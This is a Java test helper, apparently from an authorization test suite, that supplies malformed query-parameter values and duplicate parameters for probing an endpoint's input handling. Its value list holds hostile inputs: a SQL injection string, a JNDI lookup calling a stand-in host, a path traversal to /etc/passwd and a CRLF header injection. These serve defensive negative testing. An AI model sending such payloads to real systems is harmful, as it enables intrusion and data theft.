package dev.errand.authz.badinput;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

/** Values that no parameter means, and parameters that come twice. */
final class BadParameters {

    /** What people send to see whether it is understood by anything behind the endpoint. */
    static final List<String> VALUES = List.of("", " ", "null", "-1", "[]", "{}", "' or 1=1 --", "${jndi:ldap://evil.example/a}",
            "../../../etc/passwd", "x\r\nSet-Cookie: a=b", "\u0085", "\u202e", "\uffff", "\ud83d\ude00", "x".repeat(9_000),
            "{\"a\":".repeat(1_000));

    private BadParameters() {}

    /** For the parameters of the query string that the endpoint's handler declares. */
    static List<Badness> of(Endpoint endpoint) {
        return endpoint.parameters().stream().sorted().flatMap(name -> Stream.concat(
                Stream.concat(VALUES.stream(), Stream.of("\0"))
                        .map(value -> Badness.odd(name + "=" + BadBodies.visible(value), r -> r.query(pair(name, value)))),
                Stream.of(Badness.refused(name + " twice", r -> r.query(name + "=1&" + name + "=2")))))
                .toList();
    }

    static String pair(String name, String value) {
        return name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
